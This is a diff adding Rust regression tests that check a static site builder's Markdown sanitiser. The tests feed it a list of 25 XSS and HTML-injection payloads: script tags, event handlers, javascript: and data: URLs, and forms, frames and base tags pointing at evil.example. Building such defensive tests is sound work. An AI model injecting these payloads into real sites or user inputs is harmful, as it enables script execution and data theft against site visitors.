@@ -350,3 +350,141 @@ fn the_scanner_catches_what_it_should() {
     let good = "<script type=\"application/ld+json\">{\"a\":\"\\u003c/script\"}</script><a href=\"https://x.org/?a=1&amp;b=2\" title=\"javascript: a word\">javascript: as text</a><img src=\"https://x.org/i.png\" alt=\"\">";
     assert_eq!(check_html(Path::new("x.html"), good), Vec::<String>::new());
 }
+
+/// Raw HTML and script URLs an author (or whoever edits `content/`) may
+/// put in Markdown (issue 19): one per family the probe tried.
+const MARKDOWN_PAYLOADS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "Text <script>alert(1)</script> inline.",
+    "<img src=x onerror=alert(1)>",
+    "A <a href=\"#\" onclick=\"alert(1)\">link</a> with a handler.",
+    "<iframe src=\"https://evil.example/\"></iframe>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "![x](javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "[x](vbscript:msgbox(1))",
+    "<javascript:alert(1)>",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "<svg onload=alert(1)>",
+    "<object data=\"https://evil.example/x.swf\"></object>",
+    "<embed src=\"https://evil.example/x.swf\">",
+    "<form action=\"https://evil.example/\"><input name=p></form>",
+    "<style>body{display:none}</style>",
+    "<base href=\"https://evil.example/\">",
+    "<div style=\"position:fixed;inset:0\">cover</div>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<p title=\"x\" onmouseover=\"alert(1)\">hover</p>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+];
+
+/// A copy of the hostile fixture with each Markdown payload on a page of its
+/// own (`p01`…), all of them in a note and in the footer, and `extra`
+/// added to site.toml; built, and the output folder.
+fn build_hostile_markdown(extra: &str, footer: bool) -> (tempfile::TempDir, PathBuf) {
+    let site = common::copy_fixture("hostile");
+    let pages = site.path().join("content/pages");
+    std::fs::create_dir_all(&pages).unwrap();
+    for (i, payload) in MARKDOWN_PAYLOADS.iter().enumerate() {
+        let page = format!("---\ntitle: Payload {}\n---\n{payload}\n", i + 1);
+        std::fs::write(pages.join(format!("p{:02}.md", i + 1)), page).unwrap();
+    }
+    let notes = site.path().join("content/notes");
+    std::fs::create_dir_all(&notes).unwrap();
+    let all = MARKDOWN_PAYLOADS.join("\n\n");
+    std::fs::write(
+        notes.join("evil.md"),
+        format!("---\npid: ark:/99999/fk4evil3\n---\n{all}\n"),
+    )
+    .unwrap();
+    let toml = site.path().join("site.toml");
+    let mut text = std::fs::read_to_string(&toml).unwrap();
+    if footer {
+        text.push_str(&format!("footer = {:?}\n", MARKDOWN_PAYLOADS.join(" ")));
+    }
+    text.push_str(extra);
+    std::fs::write(&toml, text).unwrap();
+    let out = site.path().join("public");
+    build(
+        &BuildOptions {
+            site_dir: site.path().to_path_buf(),
+            out_dir: Some(out.clone()),
+            strict: false,
+            full: false,
+            offline: false,
+            time: None,
+        },
+        &NoProgress,
+    )
+    .unwrap_or_else(|e| panic!("hostile Markdown site did not build:\n{e}"));
+    (site, out)
+}
+
+/// The payloads whose page lets something through, by number.
+fn escaped_payloads(out: &Path) -> Vec<String> {
+    (1..=MARKDOWN_PAYLOADS.len())
+        .filter_map(|i| {
+            let path = out.join(format!("p{i:02}/index.html"));
+            let html = std::fs::read_to_string(&path).unwrap();
+            let mut problems = check_html(&path, &html);
+            // A form, a frame or an object posting to or loading from
+            // elsewhere: the scanner allows the home page's search form.
+            if html.contains("evil.example") {
+                problems.push("evil.example is on the page".into());
+            }
+            (!problems.is_empty()).then(|| format!("p{i:02}: {}", problems.join("; ")))
+        })
+        .collect()
+}
+
+#[test]
+fn raw_html_in_markdown_is_omitted_by_default() {
+    // Issue 19: before, all 25 reached the pages.
+    let (_site, out) = build_hostile_markdown("", false);
+    let escaped = escaped_payloads(&out);
+    assert!(
+        escaped.is_empty(),
+        "{} of {} payloads escaped:\n{}",
+        escaped.len(),
+        MARKDOWN_PAYLOADS.len(),
+        escaped.join("\n")
+    );
+    // The text around the omitted HTML stays.
+    let page = std::fs::read_to_string(out.join("p02/index.html")).unwrap();
+    assert!(
+        page.contains("Text  inline."),
+        "text around raw HTML dropped"
+    );
+}
+
+#[test]
+fn raw_html_allowed_in_markdown_is_sanitised() {
+    let (_site, out) = build_hostile_markdown("[markdown]\nallow_html = true\n", false);
+    let escaped = escaped_payloads(&out);
+    assert!(
+        escaped.is_empty(),
+        "{} of {} payloads escaped:\n{}",
+        escaped.len(),
+        MARKDOWN_PAYLOADS.len(),
+        escaped.join("\n")
+    );
+    // What the manifests' allow-list keeps stays: a link, text.
+    let page = std::fs::read_to_string(out.join("p04/index.html")).unwrap();
+    assert!(page.contains("<a href=\"#\">link</a>"), "{page}");
+}
+
+#[test]
+fn notes_and_the_footer_cannot_inject_anything() {
+    for extra in ["", "[markdown]\nallow_html = true\n"] {
+        let (_site, out) = build_hostile_markdown(extra, true);
+        let mut problems = Vec::new();
+        for page in ["ark/99999/fk4evil3/index.html", "index.html"] {
+            let path = out.join(page);
+            problems.extend(check_html(&path, &std::fs::read_to_string(&path).unwrap()));
+        }
+        assert!(problems.is_empty(), "{extra}: {}", problems.join("\n"));
+    }
+}
